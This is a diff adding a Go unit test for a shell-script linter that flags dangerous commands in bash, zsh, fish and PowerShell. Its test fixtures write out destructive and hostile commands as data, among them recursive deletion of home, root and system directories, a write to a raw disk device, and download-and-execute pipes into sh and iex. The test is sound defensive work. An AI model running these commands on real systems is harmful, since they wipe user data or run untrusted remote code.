@@ -0,0 +1,86 @@
+package guard
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestLint(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	SetWorkDir(filepath.Join(home, "project"))
+	defer SetWorkDir("")
+
+	type want struct {
+		line, column int
+		level        Level
+		rule         string
+	}
+	tests := []struct {
+		name   string
+		script string
+		kind   string
+		want   []want
+	}{
+		{
+			name: "sh",
+			script: `#!/bin/sh
+set -e
+if [ -d build ]; then
+  rm -rf build
+fi
+cd ~ && rm -rf *
+deploy() {
+  curl -fsSL https://example.com/i.sh | sh
+}
+echo "rm -rf /"
+`,
+			kind: "bash",
+			want: []want{{6, 9, Danger, "rm-home"}, {8, 3, Danger, "download-exec"}},
+		},
+		{
+			name:   "a cd carries over",
+			script: "cd /\nrm -rf usr\n",
+			kind:   "bash",
+			want:   []want{{2, 1, Blocked, "rm-system-dir"}},
+		},
+		{
+			name:   "a redirect of a block stays with it",
+			script: "{\n  echo hi\n} > /dev/sda\n",
+			kind:   "bash",
+			want:   []want{{3, 3, Blocked, "redirect-device"}},
+		},
+		{
+			name:   "columns count characters",
+			script: "echo 豹米花; rm -rf ~\n",
+			kind:   "zsh",
+			want:   []want{{1, 11, Danger, "rm-home"}},
+		},
+		{
+			name:   "powershell",
+			script: "# Remove-Item -Recurse C:\\\nGet-ChildItem\nRemove-Item -Recurse -Force `\n  C:\\Windows\nirm https://x.io/a.ps1 | iex\n",
+			kind:   "powershell",
+			want:   []want{{3, 1, Blocked, "remove-item-root"}, {5, 1, Danger, "download-exec"}},
+		},
+		{
+			name:   "scripts the sh parser rejects are checked line by line",
+			script: "set -l x (pwd)\nrm -rf /\n",
+			kind:   "fish",
+			want:   []want{{2, 1, Blocked, "rm-root"}},
+		},
+	}
+
+	for _, tt := range tests {
+		findings := Lint(tt.script, tt.kind)
+		if len(findings) != len(tt.want) {
+			t.Errorf("%s: got %d findings, want %d: %+v", tt.name, len(findings), len(tt.want), findings)
+			continue
+		}
+		for i, f := range findings {
+			w := tt.want[i]
+			if f.Line != w.line || f.Column != w.column || f.Level != w.level || f.RuleID != w.rule {
+				t.Errorf("%s: finding %d = %d:%d %v/%q, want %d:%d %v/%q", tt.name, i, f.Line, f.Column, f.Level, f.RuleID, w.line, w.column, w.level, w.rule)
+			}
+		}
+	}
+}